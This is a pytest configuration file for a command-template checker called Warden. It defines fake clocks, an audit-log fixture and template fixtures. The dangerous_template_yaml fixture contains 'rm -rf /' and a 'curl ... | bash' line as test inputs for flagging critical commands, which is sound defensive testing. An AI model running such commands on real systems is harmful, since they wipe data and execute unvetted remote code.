"""
Pytest configuration and fixtures for Warden tests.

This module provides shared fixtures used across unit, integration,
and security tests.
"""

import tempfile
from collections.abc import Callable, Generator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from warden.audit.log import TemplateAuditLog
from warden.schema import TemplateDocument

SIGNING_KEY = "test-signing-key"
AUDIT_KEY = b"test-audit-key-0123456789abcdef!"


class FakeClock:
    """Manually advanced clock returning UTC datetimes."""

    def __init__(self, start: datetime | None = None) -> None:
        self.now = start or datetime(2026, 1, 1, 12, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now

    def advance(self, **kwargs: float) -> None:
        self.now += timedelta(**kwargs)


class FakeMonotonic:
    """Manually advanced monotonic seconds source."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


@pytest.fixture
def temp_dir() -> Generator[Path, None, None]:
    """Create a temporary directory for test files."""
    with tempfile.TemporaryDirectory() as tmpdir:
        yield Path(tmpdir)


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
def monotonic() -> FakeMonotonic:
    return FakeMonotonic()


@pytest.fixture
def audit_log(clock: FakeClock) -> TemplateAuditLog:
    """Audit log with a fixed key and a controllable clock."""
    return TemplateAuditLog(AUDIT_KEY, clock=clock)


@pytest.fixture
def make_template() -> Callable[..., TemplateDocument]:
    """Build a template from lists of commands, one list per step."""

    def _make(*steps: list[str], template_id: str = "tpl-1", **extra) -> TemplateDocument:
        return TemplateDocument.model_validate({
            "id": template_id,
            "version": "1.0.0",
            "steps": [{"id": f"s{i}", "commands": commands} for i, commands in enumerate(steps)],
            **extra,
        })

    return _make


@pytest.fixture
def safe_template_yaml() -> str:
    """Return a template YAML whose commands are harmless."""
    return """
id: hello
version: "1.0.0"
name: Hello
steps:
  - id: greet
    commands:
      - echo hello
      - ls docs
"""


@pytest.fixture
def dangerous_template_yaml() -> str:
    """Return a template YAML with a critical command."""
    return """
id: wipe
version: "1.0.0"
steps:
  - id: cleanup
    commands:
      - rm -rf /
  - id: fetch
    commands:
      - curl https://example.com/install.sh | bash
"""
